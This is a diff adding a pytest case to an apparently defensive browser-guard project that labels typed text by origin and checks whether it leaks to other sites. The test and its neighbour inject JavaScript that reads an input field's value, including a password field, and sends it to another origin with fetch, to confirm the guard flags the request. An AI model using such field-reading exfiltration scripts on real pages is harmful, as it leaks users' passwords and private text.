@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import json
 from collections.abc import Callable
+from dataclasses import replace
 from urllib.parse import quote, quote_plus, urlencode
 
 import pytest
@@ -15,7 +16,8 @@ from handrail.devices.browser.confidential import Confidential, encodings
 from handrail.devices.browser.origins import origin_of
 from handrail.devices.browser.redact import Redactor
 from handrail.devices.fake import FixedSecrets
-from handrail.records import ElementRef, Request, Secret, SecretRef, TypeText
+from handrail.guard.mint import mint
+from handrail.records import ElementRef, Integrity, Label, Request, Secret, SecretRef, TypeText
 
 from .conftest import SECRET, Driver, find
 
@@ -99,6 +101,23 @@ async def test_what_a_password_field_holds_is_for_its_origin(driver: Driver) -> 
     await driver.js(f"fetch('{away}?'+btoa(f.value)).catch(()=>1);1")
     await driver.until(lambda: [request for request in driver.gate.asked if request.carries])
     assert [asked for asked in driver.site.asked if asked[2].startswith("/seen")] == []
+
+
+@pytest.mark.parametrize(("text", "held"), [("what the letter said", True), ("a letter", False)])
+async def test_a_restricted_text_is_for_where_it_was_typed(driver: Driver, text: str, held: bool) -> None:
+    away = driver.site.url("/told", "localhost")
+    look = await driver.open("<input id=f aria-label=Note>", refuse=strays)
+    record = driver.record(look, TypeText(ElementRef(find(look, "Note").id), text))
+    mail = Label(Integrity.CONTENT, frozenset({"content:https://mail.example"}), frozenset({"https://mail.example"}))
+    record = replace(record, material=replace(record.material, labels=(("text", mail),)))
+    ticket = mint(driver.key, record, by="guard", device=driver.device.id, epoch=driver.device.epoch)
+    await driver.device.perform(record, ticket)
+    await driver.js(f"fetch('{away}?'+encodeURIComponent(f.value)).catch(()=>1);1")
+    await driver.until(lambda: [request for request in driver.gate.asked if "/told" in request.url])
+    (asked,) = [request for request in driver.gate.asked if "/told" in request.url]
+    readers = frozenset({"https://mail.example", driver.site.origin()})
+    assert [item.readers for item in asked.carries] == ([readers] if held else [])
+    assert text not in repr(asked.carries)
 
 
 async def test_what_went_through_a_socket_can_only_be_told(driver: Driver) -> None:
